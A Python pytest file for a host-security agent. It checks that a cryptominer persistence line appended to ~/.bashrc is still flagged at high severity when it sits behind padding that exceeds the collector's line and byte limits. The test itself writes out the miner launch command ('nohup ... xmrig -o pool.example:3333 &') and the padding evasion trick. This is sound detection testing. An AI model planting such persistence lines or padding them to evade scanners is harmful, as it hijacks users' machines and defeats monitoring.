"""Padding cannot hide a persistence line: as uid 65534, a miner line appended to ~/.bashrc
after more comment lines than the collector carries, or after more bytes than it reads, is
still reported at the rule's full severity (run against the real agent)."""

from __future__ import annotations

import os

import pytest
from attacker import Nobody, guarded_agent, nobody_home, then_miner_reported

pytestmark = [
    pytest.mark.root,
    pytest.mark.skipif(os.geteuid() != 0, reason="the agent's collectors and setuid need root"),
    pytest.mark.timeout(120),
]

nobody = pytest.fixture(nobody_home)

APPEND = """
import sys
pad = "#" + "x" * int(sys.argv[2]) + "\\n"
with open(sys.argv[1], "a") as f:
    f.write(pad * int(sys.argv[3]) + "nohup /tmp/.cache/xmrig -o pool.example:3333 &\\n")
"""


@pytest.mark.parametrize(
    ("width", "count"),
    [(10, 1200), (200, 1500)],  # past the 1,000 added lines; past the 256 KiB read
    ids=["lines", "bytes"],
)
def test_padded_miner_line_in_bashrc_is_high(
    nobody: Nobody, procs: list, width: int, count: int
) -> None:
    rc = nobody.home / ".bashrc"
    rc.write_text("# ~/.bashrc\n")
    os.chown(rc, 65534, 65534)
    agent, guard = guarded_agent(nobody, home_files=[".bashrc"])
    try:
        nobody.run(APPEND, str(rc), str(width), str(count))
        rec = agent.wait_for(
            lambda r: r["rule"] == "persistence.shell_rc" and r["file"]["path"] == str(rc),
            timeout=15,
        )
        assert rec["severity"] == "high", rec
        then_miner_reported(agent, guard, nobody, procs)
    finally:
        guard.stop()
        agent.stop()
